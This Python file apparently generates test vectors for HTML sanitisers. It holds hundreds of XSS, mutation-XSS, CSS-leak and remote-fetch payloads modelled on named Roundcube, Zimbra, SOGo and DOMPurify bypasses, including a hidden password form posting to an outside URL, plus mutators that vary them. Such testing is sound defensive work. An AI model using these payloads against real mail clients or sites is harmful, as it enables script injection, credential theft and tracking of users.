"""Hostile HTML, our own: one for each published way around the sanitisers of
Roundcube, Zimbra, SOGo and DOMPurify since 2020, what came before them, and
mutations of all, always the same ones.

    vectors(origin) -> [(name, html)]

Each tries to call hit() or to make the browser ask `origin` for something.
"""

import random
import re

def seeds(origin):
    """{row of threats: {name: HTML}}; the name says whose hole it is like."""
    URL = f"{origin}/x"
    bare = origin.removeprefix("http:")
    return {
    # plain ways, known since the first webmail
    "L01": {
        "script": "<script>hit()</script>",
        "script src": f"<script src={URL}></script>",
        "script in script": "<scr<script>ipt>hit()</scr</script>ipt>",
        "script unclosed": "<script>hit()//",
        "script newline": "<script\n>hit()</script\n>",
        "img onerror": "<img src=x: onerror=hit()>",
        "img onload": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQ"
        "ABAAA=' onload=hit()>",
        "body onload": "<body onload=hit()>x",
        "body onpageshow": "<body onpageshow=hit()><p>x",
        "focus": "<input autofocus onfocus=hit()>",
        "tabindex focus": "<p tabindex=0 id=a onfocus=hit() autofocus>x</p>",
        "contenteditable": "<div contenteditable autofocus onfocus=hit()>x</div>",
        "details ontoggle (Zimbra CVE-2025-27915)":
        "<details open ontoggle=hit()><summary>x</summary></details>",
        "marquee": "<marquee onstart=hit()>x</marquee>",
        "video source": "<video><source onerror=hit() src=x:></video>",
        "audio": "<audio src=x: onerror=hit() autoplay></audio>",
        "animation": "<style>@keyframes a{}</style><b style='animation:a 1s' "
        "onanimationstart=hit()>x</b>",
        "transition": "<b style='transition:all .1s;outline:1px solid' "
        "ontransitionend=hit()>x</b>",
        "slash separator": "<img/src=x:/onerror=hit()>",
        "quote junction": "<img src=\"x:\"onerror=hit()>",
        "grave accent": "<img src=`x:`onerror=hit()>",
        "equals in name": "<img =x onerror=hit() src=x:>",
        "javascript link": "<a href='javascript:hit()'>x</a>",
        "javascript tab": "<a href='java\tscript:hit()'>x</a>",
        "javascript entity": "<a href='&#106;avascript&colon;hit()'>x</a>",
        "javascript newline entity": "<a href='java&NewLine;script&#58;hit()'>x</a>",
        "javascript control": "<a href='\x01javascript:hit()'>x</a>",
        "javascript space": "<a href=' &#x20;javascript:hit()'>x</a>",
        "javascript NUL": "<a href='java\0script:hit()'>x</a>",
        "javascript in area": "<img usemap=#m src=x:><map name=m><area shape=rect "
        "coords=0,0,99,99 href=javascript:hit()></map>",
        "vbscript": "<a href='vbscript:hit()'>x</a>",
        "data html link": "<a href='data:text/html,<script>parent.hit()</script>'>"
        "x</a>",
        "data html iframe":
        "<iframe src='data:text/html,<script>hit()</script>'></iframe>",
        "iframe srcdoc": "<iframe srcdoc='<script>hit()</script>'></iframe>",
        "iframe javascript": "<iframe src=javascript:hit()></iframe>",
        "object": "<object data='data:text/html,<script>hit()</script>'></object>",
        "embed": "<embed src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/"
        "2000/svg\" onload=\"hit()\"/>'>",
        "frameset": "<frameset onload=hit()><frame src=javascript:hit()>"
        "</frameset>",
        "isindex": "<isindex type=image src=x: onerror=hit()>",
        "base javascript": "<base href='javascript:/'><a href='/hit()//'>x</a>",
        "meta refresh": "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
        "meta data": "<meta http-equiv=refresh content='0;url=data:text/html,"
        "<script>hit()</script>'>",
        "meta csp": "<meta http-equiv=Content-Security-Policy content=\"script-src "
        "'unsafe-inline'\"><script>hit()</script>",
        "link import": f"<link rel=import href={URL}>",
        "xml island": "<xml id=x><a><b>&lt;img src=x: onerror=hit()></b></a></xml>",
        "applet": f"<applet code=x codebase={URL}></applet>",
        "custom element": "<x-y onclick=hit() autofocus tabindex=1 onfocus=hit()>x"
        "</x-y>",
        "is attribute (DOMPurify 2.0)": "<p is=x-y onfocus=hit() tabindex=0 "
        "autofocus>x</p>",
        "popover beforetoggle": "<button popovertarget=p>x</button><div popover "
        "id=p onbeforetoggle=hit()>y</div>",
        "dialog cancel": "<dialog open onclose=hit()><form method=dialog><button>x"
        "</button></form></dialog>",
        "content-visibility": "<p style='display:block;content-visibility:auto' "
        "oncontentvisibilityautostatechange=hit()>x</p>",
        "scroll snap": "<div style='overflow:auto;height:9px' onscrollend=hit() "
        "onscroll=hit()><p style='height:99px'>x</div>",
    },
    # parsers that disagree (mutation)
    "L02": {
        "style in svg (Roundcube CVE-2020-15562)":
        "<svg><style><img src=x: onerror=hit()></style></svg>",
        "svg namespace (Roundcube CVE-2020-16145)":
        "<svg xmlns='http://www.w3.org/2000/svg'><desc><![CDATA[</desc>"
        "<script>hit()</script>]]></svg>",
        "CDATA (Roundcube CVE-2020-12625)":
        "<p><![CDATA[ <img src=x: onerror=hit()> ]]></p>",
        "CDATA end": "<svg><![CDATA[]]><img src=x: onerror=hit()>]]></svg>",
        "math mglyph (DOMPurify CVE-2020-26870)":
        "<form><math><mtext></form><form><mglyph><style></math><img src=x: "
        "onerror=hit()>",
        "math table foster": "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=x: onerror=hit()&gt;'>",
        "malignmark": "<math><mi><table><malignmark><style></math><img src=x: "
        "onerror=hit()></style>",
        "annotation-xml (DOMPurify 2.2)": "<math><annotation-xml encoding="
        "'text/html'><style></annotation-xml></math><img src=x: onerror=hit()>"
        "</style>",
        "svg title (DOMPurify 2.0)": "<svg></p><title><style></title><img src=x: "
        "onerror=hit()></style></svg>",
        "svg p style": "<svg></p><style><a id='</style><img src=x: onerror=hit()>'>",
        "foreignObject": "<svg><foreignObject><p><style></foreignObject></svg>"
        "<img src=x: onerror=hit()></style>",
        "nested forms (DOMPurify 2.0.17)": "<form id=a><div></form><form id=b>"
        "<input name=parentNode><img src=x: onerror=hit()></form>",
        "deep nesting (DOMPurify CVE-2024-45801)": "<div>" * 510 +
        "<svg><style><a title='</style><img src=x: onerror=hit()>'>",
        "deep table (DOMPurify CVE-2024-47875)": "<table><caption>" * 200 +
        "<svg><title><style><img src=x: onerror=hit()>",
        "template": "<template><img src=x: onerror=hit()></template>",
        "declarative shadow": "<div><template shadowrootmode=open><img src=x: "
        "onerror=hit()></template></div>",
        "template text (DOMPurify CVE-2025-26791)":
        "<p>${`</p><style>`}<img src=x: onerror=hit()>",
        "textarea rawtext (DOMPurify CVE-2025-15599)":
        "<a title='</textarea><img src=x: onerror=hit()>'>x</a><textarea>",
        "noscript": "<noscript><p title='</noscript><img src=x: onerror=hit()>'>",
        "xmp (DOMPurify CVE-2026-0540)":
        "<xmp><p title='</xmp><img src=x: onerror=hit()>'></p></xmp>",
        "noembed": "<noembed><p title='</noembed><img src=x: onerror=hit()>'>",
        "noframes": "<noframes><p title='</noframes><img src=x: onerror=hit()>'>",
        "iframe text": "<iframe><p title='</iframe><img src=x: onerror=hit()>'>",
        "title text": "<title><p title='</title><img src=x: onerror=hit()>'>",
        "style text": "<style><p title='</style><img src=x: onerror=hit()>'>",
        "plaintext": "<p title='x'><plaintext><img src=x: onerror=hit()>",
        "textarea": "<textarea><p title='</textarea><img src=x: onerror=hit()>'>",
        "select": "<select><style></select><img src=x: onerror=hit()></style>",
        "select template": "<select><template><style><!--</style><a rel='--></style"
        "></template></select><img id=x src=x: onerror=hit()>'>",
        "table foster": "<table><style></table><img src=x: onerror=hit()></style>",
        "comment bang": "<!--><img src=x: onerror=hit()>-->",
        "comment bang end": "<!-- --!><img src=x: onerror=hit()>-->",
        "comment short": "<!---><img src=x: onerror=hit()>",
        "comment in attribute": "<p title='<!--'><img src=x: onerror=hit()>"
        "<p title='-->'>",
        "conditional comment": "<!--[if gte IE 4]><script>hit()</script>"
        "<![endif]-->",
        "bogus comment": "<!x><img src=x: onerror=hit()>",
        "processing instruction": "<?xml version='>'?><img src=x: onerror=hit()>",
        "pi in svg": "<svg><?x ><img src=x: onerror=hit()>?></svg>",
        "doctype": "<!DOCTYPE x [<!ENTITY y '<img src=x: onerror=hit()>'>]>&y;",
        "end tag attributes": "</p onclick=hit()><img src=x: onerror=hit()>",
        "unended tag": "<img src=x: onerror=hit() ",
        "unended attribute": "<img src='x:' onerror='hit()",
        "two tags in one": "<p <img src=x: onerror=hit()>>",
        "lt in name": "<p<img src=x: onerror=hit()>",
        "NUL in name": "<im\0g src=x: onerror=hit()><scr\0ipt>hit()</script>",
        "duplicate attribute": "<img src=x: title=a title='b' onerror=hit() "
        "onerror=x>",
        "attribute breakout (Zimbra CVE-2022-24682)":
        "<a href='https://a.example/\"onmouseover=\"hit()\"x=\"' autofocus>x</a>",
        "attribute breakout (Zimbra CVE-2024-27443)":
        "<p title='\"&gt;&lt;img src=x: onerror=hit()&gt;'>x</p>",
        "entity twice": "<p>&amp;lt;img src=x: onerror=hit()&amp;gt;</p>",
        "entity without end": "<a href='javascript&#58hit()'>x</a>",
        "entity huge": "<a href='&#0000000000000106;avascript:hit()'>x</a>",
        "post-processing (Roundcube CVE-2024-42009)":
        "<body title='bgcolor=foo' name='bar style=animation-name:x "
        "onanimationstart=hit() foo=bar'>x",
        "body attribute to style": "<body background='x:\" onerror=hit() a=\"'>x",
        "wide characters": "<\uff53cript>hit()</\uff53cript><a href='"
        "java\u017fcript:hit()'>x</a>",
        "overlong": "<img src=x: onerror=\ufffdhit()>\u2028<script>hit()</script>",
        "utf-7": "<meta charset=utf-7>+ADw-script+AD4-hit()+ADw-/script+AD4-",
        "image tag": "<image src=x: onerror=hit()>",
        "keygen": "<keygen autofocus onfocus=hit()>",
        "menuitem": "<menu><menuitem icon=x: onclick=hit()>",
    },
    # svg and math by themselves
    "L03": {
        "svg onload": "<svg onload=hit()>",
        "svg script": "<svg><script>hit()</script></svg>",
        "svg script href": "<svg><script xlink:href=data:,hit()></script></svg>",
        "svg use (Roundcube CVE-2023-5631)":
        "<svg><use href='data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA"
        "6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0neCcgb25lcnJvcj0naGl0KCkn"
        "Lz48L3N2Zz4=#x'/></svg>",
        "svg animate (Roundcube CVE-2024-37383)":
        "<svg><animate attributeName='href ' values='javascript:hit()' href='#a'/>"
        "<a id=a><text y=20>x</text></a></svg>",
        "svg animate by (Roundcube CVE-2025-68461)":
        "<svg><a><animate attributeName=href by='javascript:hit()' dur=1s "
        "fill=freeze /><text y=20>x</text></a></svg>",
        "svg set": "<svg><a><set attributeName=xlink:href to=javascript:hit() />"
        "<text y=20>x</text></a></svg>",
        "svg animate onbegin": "<svg><animate onbegin=hit() attributeName=x "
        "dur=1s></svg>",
        "svg feImage (Roundcube CVE-2026-25916)":
        f"<svg><filter id=f><feImage href={URL} /></filter><rect width=9 height=9 "
        "filter=url(#f) /></svg>",
        "svg image": f"<svg><image href={URL} /><image xlink:href={URL} /></svg>",
        "svg funciri": f"<svg><rect width=9 height=9 fill='url({URL}#a)' "
        f"mask='url({URL}#b)' clip-path='url({URL}#c)'/></svg>",
        "svg a": "<svg><a xlink:href=javascript:hit()><text y=20>x</text></a></svg>",
        "svg handler": "<svg><handler ev:event=load>hit()</handler></svg>",
        "math href": "<math href=javascript:hit()>x</math>",
        "math maction": "<math><maction actiontype='statusline#x' "
        "xlink:href=javascript:hit()>x</maction></math>",
    },
    # what asks for something
    "L07": {
        "remote img": f"<img src={URL}>",
        "remote srcset": f"<img srcset='{URL} 1x, {URL}2 2x'>",
        "remote picture": f"<picture><source srcset={URL}><img></picture>",
        "remote lazy": f"<img loading=lazy src={URL}>",
        "remote lowsrc": f"<img lowsrc={URL} dynsrc={URL}>",
        "remote video": f"<video poster={URL} src={URL} autoplay muted></video>",
        "remote track": f"<video><track default src={URL}></video>",
        "remote audio": f"<audio src={URL} preload autoplay></audio>",
        "remote input": f"<input type=image src={URL}>",
        "remote background": f"<table background={URL}><td background={URL}>x"
        "</table>",
        "remote body background (Roundcube CVE-2026-35542)":
        f"<body background={URL}>x",
        "remote link": f"<link rel=stylesheet href={URL}>",
        "remote preload": f"<link rel=preload as=image href={URL}>",
        "remote prefetch": f"<link rel=prefetch href={URL}><link rel=dns-prefetch "
        f"href={URL}><link rel=preconnect href={URL}>",
        "remote modulepreload": f"<link rel=modulepreload href={URL}>",
        "remote icon": f"<link rel=icon href={URL}>",
        "remote manifest": f"<link rel=manifest href={URL}>",
        "remote iframe": f"<iframe src={URL}></iframe>",
        "remote object": f"<object data={URL}></object><embed src={URL}>",
        "remote frame": f"<frameset><frame src={URL}></frameset>",
        "remote refresh": f"<meta http-equiv=refresh content='0;url={URL}'>",
        "remote base": f"<base href={origin}/><img src=x>",
        "remote protocol-relative": f"<img src={bare}/x>",
        "remote backslash": "<img src='" + bare.replace("/", "\\") + "\\x'>",
        "remote entity": "<img src='" + URL.replace(":", "&colon;") + "'>",
        "remote tab": "<img src='" + URL.replace("tt", "t\tt") + "'>",
        "remote relative": "<img src=x.png><img src=/x.png><img src=?x>",
        "remote cid trick": "<img src='cid:../../x'><img src='cid:%2e%2e/%2e%2e'>",
        "remote ping": f"<a href=#a ping={URL}>x</a>",
        "remote attributionsrc": f"<img attributionsrc={URL}>",
        "remote bgsound": f"<bgsound src={URL}>",
        "remote portal": f"<portal src={URL}></portal>",
        "remote fencedframe": f"<fencedframe src={URL}></fencedframe>",
        "remote html manifest": f"<html manifest={URL}>",
        "remote head profile": f"<head profile={URL}>",
        "remote blockquote cite": f"<blockquote cite={URL} longdesc={URL}>x"
        "</blockquote>",
        "remote speculation": "<script type=speculationrules>{\"prefetch\":[{"
        f"\"urls\":[\"{URL}\"]}}]}}</script>",
    },
    # styles
    "L04": {
        "css url": f"<p style='background:url({URL})'>x</p>",
        "css escape (Roundcube CVE-2024-42010)":
        f"<p style='background:\\75rl({URL})'>x</p>",
        "css comment (Roundcube CVE-2026-26079)":
        f"<p style='background:u/**/rl({URL});background/**/:/**/url({URL})'>x",
        "css unclosed url (Roundcube CVE-2026-48846)":
        f"<p style='background:url({URL}'>x</p>",
        "css var (Roundcube CVE-2021-46144)":
        f"<p style='--a:url({URL});background:var(--a)'>x</p>",
        "css import (Zimbra CVE-2025-66376)": f"<style>@import '{URL}';</style>x",
        "css import escape": f"<style>@\\69mport url({URL});</style>x",
        "css import (Roundcube CVE-2021-26925)":
        f"<style>@import/**/url({URL}); @media all {{ p {{ background:url({URL}) "
        "} }</style><p>x</p>",
        "css import bytes (SOGo)": f"<style>\ufeff@import\n\"{URL}\";</style>",
        "css font": f"<style>@font-face{{font-family:a;src:url({URL})}}p{{"
        "font-family:a}</style><p>x</p>",
        "css image-set": f"<p style='background:image-set(\"{URL}\" 1x)'>x</p>",
        "css webkit-image-set":
        f"<p style='background:-webkit-image-set(url({URL}) 1x)'>x</p>",
        "css cross-fade":
        f"<p style='background:-webkit-cross-fade(url({URL}),url({URL}),50%)'>x",
        "css list-style": f"<ul style='list-style:url({URL})'><li>x</ul>",
        "css cursor": f"<p style='cursor:url({URL}),auto'>x</p>",
        "css content": f"<style>p::before{{content:url({URL})}}</style><p>x</p>",
        "css border-image": f"<p style='border:9px solid;border-image:url({URL}) 1'>",
        "css mask": f"<p style='mask:url({URL});-webkit-mask-image:url({URL})'>x",
        "css filter": f"<p style='filter:url({URL}#a)'>x</p>",
        "css shape": f"<p style='float:left;shape-outside:url({URL})'>x</p>",
        "css offset-path": f"<p style='offset-path:url({URL}#a)'>x</p>",
        "css expression": "<p style='width:expression(hit())'>x</p>",
        "css behavior": f"<p style='behavior:url({URL})'>x</p>",
        "css binding": f"<p style='-moz-binding:url({URL}#a)'>x</p>",
        "css javascript url": "<p style='background:url(javascript:hit())'>x</p>",
        "css data svg": "<p style='background:url(\"data:image/svg+xml,<svg "
        "onload=hit() xmlns=%22http://www.w3.org/2000/svg%22/>\")'>x</p>",
        "css string end": "<p style='font-family:\"a\n;background:url("
        f"{URL})\"'>x</p>",
        "css breakout": f"<p style='color:red}}p{{background:url({URL})'>x</p>",
        "css style attribute end": "<p style='a:b\"><img src=x: onerror=hit()>'>x",
        "css style end": "<style>p{color:red}</style ><img src=x: onerror=hit()>"
        "</style>",
        "css style in attribute": "<style title='</style><img src=x: "
        "onerror=hit()>'></style>",
        "picture wrap (SOGo CVE-2020-22402)":
        "<img src='data:image/svg+xml,<svg onload=hit() xmlns=\"http://www.w3.org/"
        "2000/svg\"></svg>'><svg><image href='x:' onerror=hit()></svg>",
        "data svg image": "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imhp"
        "dCgpIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4='>",
        "data html image": "<img src='data:text/html,<script>hit()</script>'>",
    },
    # text that looks like something (linkifiers)
    "L12": {
        "text link (Roundcube CVE-2020-35730)":
        "[x]: http://a.example/\"onmouseover=\"hit()\" http://b.example/'>"
        "<img src=x: onerror=hit()>",
        "text link (Roundcube CVE-2023-43770)":
        "&lt;http://a.example/&gt;&lt;img src=x: onerror=hit()&gt; "
        "http://a.example/<img src=x: onerror=hit()>",
    },
    # styles that look out of the message, or over it
    "L05": {
        "css attribute selector (Roundcube CVE-2025-68460)":
        f"<style>input[value^=a]{{background:url({URL})}}</style><input value=a>",
        "css has": f"<style>:root:has(p){{background:url({URL})}}</style><p>x</p>",
        "css body": f"<style>body *{{background:url({URL})}}</style><p>x</p>",
        "css unicode-range": f"<style>@font-face{{font-family:a;src:url({URL});"
        "unicode-range:U+41}}p{{font-family:a}}</style><p>A</p>",
    },
    "L06": {
        "css fixed": "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
        "css sticky": "<p style='position:sticky;top:-9px;margin:-999px'>x</p>",
        "css absolute": "<p style='position:absolute!important;top:0'>x</p>",
        "css far": "<p style='width:1000000000px;height:1e9px;margin:-1e9px;"
        "transform:scale(1e9)'>x</p>",
    },
    # what is typed into, and what takes the names of the page's own
    "L09": {
        "form action": "<form action=javascript:hit()><input type=submit value=x "
        "autofocus></form>",
        "formaction": "<form><button formaction=javascript:hit()>x</button></form>",
        "html injection (SOGo CVE-2023-48104)":
        f"<style>body{{display:none}}</style><form action={URL}><input "
        "type=password name=p autofocus></form>",
        "form target": f"<form target=_top action={URL} method=post><textarea "
        "name=a></textarea><select><option>x</select></form>",
        "link target": f"<a href={URL} target=_parent rel=opener>x</a>",
    },
    "L10": {
        "clobber": "<img name=body><form id=documentElement><input name=attributes>"
        "<img src=x: onerror=hit()></form>",
        "clobber anchor": "<a id=defaultView></a><a id=defaultView name=hit "
        "href=javascript:hit()>x</a>",
        "clobber class": "<p id=csrf class='go bar dialog' name=back>x</p>",
    },
    }


WRAPPERS = (
    "<svg>{}</svg>", "<math><mtext>{}</mtext></math>", "<table><tr>{}</table>",
    "<select>{}</select>", "<template>{}</template>",
    "<noscript>{}</noscript>", "<p title=\"{}\">x</p>", "<p title='{}'>x</p>",
    "<style>{}</style>", "<!--{}-->", "<title>{}</title>",
    "<textarea>{}</textarea>", "<svg><foreignObject>{}", "<svg><desc>{}",
    "<math><annotation-xml encoding=text/html>{}", "<b><i><u>{}</b></i></u>",
    "<a href='https://a.example/'>{}</a>", "<svg><style>{}", "<xmp>{}</xmp>",
    "<form><form>{}</form>", "<iframe>{}</iframe>", "<![CDATA[{}]]>",
    "<object>{}</object>", "<dl><dt>{}", "<svg></p><math>{}",
    "<font color={}>", "&lt;{}&gt;", "<p>\0{}", "<caption><table>{}",
)


def odd_case(html, rng):
    return "".join(c.upper() if c.isalpha() and rng.random() < .5 else c
                   for c in html) if "hit" not in html else re.sub(
        r"[a-z]{3,}(?=[ =>:/])", lambda m: m.group()
        if m.group() in ("hit", "http") else "".join(
            c.upper() if rng.random() < .5 else c for c in m.group()), html)


def entities(html, rng):
    """Characters inside attribute values as references of all kinds."""
    forms = ("&#{0};", "&#x{0:x};", "&#{0}", "&#000{0};", "&#X{0:X}")

    def value(m):
        return m.group(1) + "".join(
            rng.choice(forms).format(ord(c))
            if c.isalpha() and rng.random() < .4 else c
            for c in m.group(2)) + m.group(3)
    return re.sub(r"(=['\"])([^'\"<>]+)(['\"])", value, html)


def separators(html, rng):
    return re.sub(r" (?=[a-z:-]+=)", lambda m: rng.choice(
        ("/", "\f", "\n", "\t", "\r", " / ", "//", "\x0b ")), html)


def splits(html, rng):
    """Something a careless filter takes out, within what it looks for."""
    cut = rng.choice(("\0", "<!---->", "\t", "<script>", "/**/", "\r\n",
                      "&#0;", "\u200b", "<b>"))
    spots = [m.start() for m in re.finditer(r"[a-z]{2}", html)]
    at = rng.choice(spots) + 1
    return html[:at] + cut + html[at:]


def quotes(html, rng):
    return html.replace("'", rng.choice(('"', "`", "")))


def unended(html, rng):
    return html.rstrip(">") if rng.random() < .5 else \
        html + rng.choice(("<!--", "<style>", "<p title='", "<![CDATA[", "</"))


def handler_names(html, rng):
    return re.sub(r"\bon[a-z]+(?==)", lambda m: rng.choice(
        ("onpointerenter", "onbeforeinput", "onauxclick", "onwheel",
         "onsecuritypolicyviolation", "onformdata", "onx", "on", "ONERROR",
         "onload\u017f", "data-x onerror", "xlink:onerror", "\0onerror"))
        if rng.random() < .5 else m.group(), html)


MUTATIONS = (odd_case, entities, separators, splits, quotes, unended,
             handler_names)


def vectors(origin):
    rng = random.Random(20201)
    first = {k: v for row in seeds(origin).values() for k, v in row.items()}
    found = list(first.items())
    seen = set(first.values())

    def add(name, html):
        if html not in seen:
            seen.add(html)
            found.append((name, html))
    for name, html in first.items():
        for mutate in rng.sample(MUTATIONS, 2):
            add(f"{name} / {mutate.__name__}", mutate(html, rng))
        wrapper = rng.choice(WRAPPERS)
        add(f"{name} / in {wrapper[:20]}", wrapper.replace("{}", html))
    # two by two
    for _ in range(150):
        (a, x), (b, y) = rng.choice(found), rng.choice(found)
        at = rng.randrange(len(x) + 1)
        add(f"{a[:30]} + {b[:30]}", x[:at] + y + x[at:])
    return found


if __name__ == "__main__":
    for name, html in vectors("http://127.0.0.1:65000"):
        print(f"{name}\t{html!r}")
